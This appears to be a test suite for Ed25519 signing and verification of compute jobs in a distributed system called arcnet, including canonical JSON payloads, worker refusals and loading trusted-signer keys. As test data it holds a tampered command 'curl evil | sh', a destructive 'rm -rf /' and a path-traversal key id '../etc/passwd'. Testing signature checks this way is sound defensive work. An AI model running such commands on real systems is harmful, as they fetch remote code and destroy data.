/**
 * The signed payload is the documented bytes (another client must be able to produce them), the
 * canonical JSON orders keys as RFC 8785 does, every refusal says which key and why, and trusted
 * signers are read from a directory of `<key_id>.pub` files with a sentence naming any bad file.
 */
import { afterAll, describe, expect, it } from 'vitest';
import { generateKeyPairSync } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { canonicalJson, checkSignature, generateSigningKeyPair, parsePrivateKey, parsePublicKey, signedPayload, signJob, type SignedSpec, type SigningPolicy } from '../../src/jobs/signing.ts';
import { loadTrustedSigners, signingPolicy } from '../../src/main/job-signers.ts';
import { signatureRefusal } from '../../src/agent/worker.ts';
import { appliedSettings, loadSettings, readConfigFile } from '../../src/main/settings.ts';
import type { ExecutionAssignment } from '../../src/jobs/model.ts';

const spec: SignedSpec = {
  id: '7d5c2f7e-0000-4000-8000-000000000001',
  name: 'hello',
  docker_image: 'arcnet/busybox:test',
  command: ['sh', '-c', 'echo hello | sha256sum'],
  environment: { Z: '1', A: 'é' },
  input_data: null,
  required_cpu: 1,
  required_memory: 0.5,
  required_gpu: false,
  redundancy: 3,
  consensus: 2,
  max_executions: 6,
  timeout_seconds: 300,
  network: false,
};

const alice = generateSigningKeyPair();
const policy = (required: boolean): SigningPolicy => ({ trusted: new Map([['alice', parsePublicKey(alice.publicKey)]]), required });

const scratch = mkdtempSync(join(tmpdir(), 'arcnet-signers-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

describe('the signed payload', () => {
  it('is the documented bytes: the context line, then the signed fields as canonical JSON', () => {
    expect(signedPayload(spec).toString('utf8')).toBe(
      'arcnet-job-v1\n' +
        '{"command":["sh","-c","echo hello | sha256sum"],"consensus":2,"docker_image":"arcnet/busybox:test","environment":{"A":"é","Z":"1"},' +
        '"id":"7d5c2f7e-0000-4000-8000-000000000001","input_data":null,"max_executions":6,"name":"hello","network":false,"redundancy":3,' +
        '"required_cpu":1,"required_gpu":false,"required_memory":0.5,"timeout_seconds":300}',
    );
  });

  it('orders keys by UTF-16 code units, as RFC 8785 section 3.2.3 does', () => {
    const keys = ['\u20ac', '\r', '\ufb33', '1', '\ud83d\ude00', '\u0080', '\u00f6'];
    const expected = ['\r', '1', '\u0080', '\u00f6', '\u20ac', '\ud83d\ude00', '\ufb33'];
    // Compared as text: parsing it back would put the integer-like key "1" first again.
    expect(canonicalJson(Object.fromEntries(keys.map((k) => [k, 0])))).toBe(`{${expected.map((k) => `${JSON.stringify(k)}:0`).join(',')}}`);
  });

  it('refuses what a job never holds: non-finite numbers', () => {
    expect(() => canonicalJson({ a: Number.POSITIVE_INFINITY })).toThrow(/non-finite/);
    expect(() => signedPayload({ ...spec, required_cpu: Number.NaN })).toThrow(/non-finite/);
  });
});

describe('checking a signature', () => {
  const signature = signJob(spec, 'alice', alice.privateKey);

  it('accepts a good one and an unsigned job where signatures are not required', () => {
    expect(checkSignature(spec, signature, policy(true))).toEqual({ ok: true, signature });
    expect(checkSignature(spec, undefined, policy(false))).toEqual({ ok: true, signature: null });
  });

  it('says which key and why it refused', () => {
    expect(checkSignature(spec, undefined, policy(true))).toMatchObject({ ok: false, kind: 'unsigned', reason: `job ${spec.id} is not signed, and signatures are required` });
    expect(checkSignature(spec, { ...signature, key_id: 'mallory' }, policy(false))).toMatchObject({ ok: false, kind: 'unknown-key', reason: 'signature by key "mallory" is from no trusted signer (trusted: alice)' });
    expect(checkSignature(spec, signature, { trusted: new Map(), required: false })).toMatchObject({ kind: 'unknown-key', reason: expect.stringMatching(/trusted: none configured/) });
    expect(checkSignature({ ...spec, command: ['sh', '-c', 'curl evil | sh'] }, signature, policy(false))).toMatchObject({
      ok: false,
      kind: 'does-not-verify',
      reason: expect.stringMatching(/^signature by key "alice" does not verify over job 7d5c2f7e-.*'s signed fields \(id, name, docker_image, command,/),
    });
    const mallory = generateSigningKeyPair();
    expect(checkSignature(spec, signJob(spec, 'alice', mallory.privateKey), policy(false))).toMatchObject({ kind: 'does-not-verify' });
  });

  it('refuses what is not a signature at all as malformed, naming the field', () => {
    expect(checkSignature(spec, { key_id: 'alice', value: 'not base64!' }, policy(false))).toMatchObject({ kind: 'malformed', reason: 'signature.value must be base64' });
    expect(checkSignature(spec, { key_id: 'alice', value: Buffer.alloc(10).toString('base64') }, policy(false))).toMatchObject({ kind: 'malformed', reason: expect.stringMatching(/64 bytes, got 10/) });
    expect(checkSignature(spec, { key_id: '../etc/passwd', value: signature.value }, policy(false))).toMatchObject({ kind: 'malformed', reason: expect.stringMatching(/^signature.key_id/) });
  });

  it('takes Ed25519 keys only', () => {
    const rsa = generateKeyPairSync('rsa', { modulusLength: 1024, publicKeyEncoding: { type: 'spki', format: 'pem' }, privateKeyEncoding: { type: 'pkcs8', format: 'pem' } });
    expect(() => parsePublicKey(rsa.publicKey)).toThrow(/Ed25519 public key is needed, this one is rsa/);
    expect(() => parsePrivateKey(rsa.privateKey)).toThrow(/Ed25519 private key is needed, this one is rsa/);
    expect(() => parsePublicKey('hello')).toThrow(/not a PEM public key/);
    expect(() => signJob(spec, 'no spaces', alice.privateKey)).toThrow(/key id "no spaces"/);
  });
});

describe('the worker', () => {
  const assignment: ExecutionAssignment = { execution_id: '7d5c2f7e-0000-4000-8000-0000000000e1', job_id: spec.id, ...spec, signature: signJob(spec, 'alice', alice.privateKey) };

  it('runs anything when it trusts no key and requires nothing, as before signing existed', () => {
    expect(signatureRefusal({ ...assignment, command: ['rm', '-rf', '/'] }, undefined)).toBeUndefined();
    expect(signatureRefusal({ ...assignment, command: ['rm', '-rf', '/'] }, { trusted: new Map(), required: false })).toBeUndefined();
  });

  it('refuses an unsigned job when it requires signatures, and one whose signed fields did not come with it', () => {
    const { signature: _signature, ...unsigned } = assignment;
    expect(signatureRefusal(unsigned, policy(true))).toBe(`job ${spec.id} is not signed, and this worker requires signed jobs: refused to run`);
    expect(signatureRefusal(unsigned, policy(false))).toBeUndefined();
    const { name: _name, ...partial } = assignment;
    expect(signatureRefusal(partial, policy(false))).toMatch(/^signature by key "alice" cannot be checked: the assignment lacks the signed fields/);
  });
});

describe('trusted signers on disk', () => {
  it('reads every <key_id>.pub of a directory and ignores other files', () => {
    const dir = mkdtempSync(join(scratch, 'ok-'));
    const bob = generateSigningKeyPair();
    writeFileSync(join(dir, 'alice.pub'), alice.publicKey);
    writeFileSync(join(dir, 'bob.pub'), bob.publicKey);
    writeFileSync(join(dir, 'alice.key'), alice.privateKey, { mode: 0o600 });
    writeFileSync(join(dir, 'README'), 'not a key');
    const signers = loadTrustedSigners(dir);
    expect([...signers.keys()]).toEqual(['alice', 'bob']);
    expect(checkSignature(spec, signJob(spec, 'bob', bob.privateKey), { trusted: signers, required: true }).ok).toBe(true);
  });

  it('names the file or directory that is wrong', () => {
    const dir = mkdtempSync(join(scratch, 'bad-'));
    writeFileSync(join(dir, 'carol.pub'), 'garbage');
    expect(() => loadTrustedSigners(dir)).toThrow(new RegExp(`${join(dir, 'carol.pub')}: not a PEM public key`));
    expect(() => loadTrustedSigners(join(scratch, 'missing'))).toThrow(/cannot read the trusted signers directory .*missing/);
    const bad = mkdtempSync(join(scratch, 'name-'));
    writeFileSync(join(bad, '-x.pub'), alice.publicKey);
    expect(() => loadTrustedSigners(bad)).toThrow(/"-x" is not a key id/);
  });

  it('refuses to require signatures with no signer to trust, rather than refuse every job', () => {
    const empty = mkdtempSync(join(scratch, 'empty-'));
    expect(() => signingPolicy({ signersDir: empty, required: true, what: 'this coordinator' })).toThrow(/this coordinator requires signed jobs but .* holds no <key_id>.pub file/);
    expect(() => signingPolicy({ required: true, what: 'this worker' })).toThrow(/this worker requires signed jobs but trusts no signer/);
    expect(signingPolicy({ signersDir: empty, what: 'x' })).toEqual({ trusted: new Map(), required: false });
  });
});

describe('signing settings', () => {
  it('reads jobs.signers and jobs.require-signatures from the config file, the environment over it', () => {
    const file = join(scratch, 'config.json');
    writeFileSync(file, JSON.stringify({ jobs: { signers: '/etc/arcnet/signers', 'require-signatures': true } }));
    expect(appliedSettings(loadSettings(file, {}))).toMatchObject({ jobSigners: '/etc/arcnet/signers', requireSignedJobs: true });
    expect(appliedSettings(loadSettings(file, { ARCNET_REQUIRE_SIGNED_JOBS: 'false', ARCNET_JOB_SIGNERS: '/other' }))).toMatchObject({ jobSigners: '/other', requireSignedJobs: false });
    expect(appliedSettings(loadSettings(undefined, {}))).not.toHaveProperty('requireSignedJobs');
  });

  it('refuses a value that is not true or false, naming the key', () => {
    const file = join(scratch, 'bad-config.json');
    writeFileSync(file, JSON.stringify({ jobs: { 'require-signatures': 'yes please' } }));
    expect(() => readConfigFile(file)).toThrow(/"jobs.require-signatures" must be true or false/);
    expect(() => appliedSettings(loadSettings(undefined, { ARCNET_REQUIRE_SIGNED_JOBS: 'maybe' }))).toThrow(/ARCNET_REQUIRE_SIGNED_JOBS \("maybe"\) must be true or false/);
  });
});
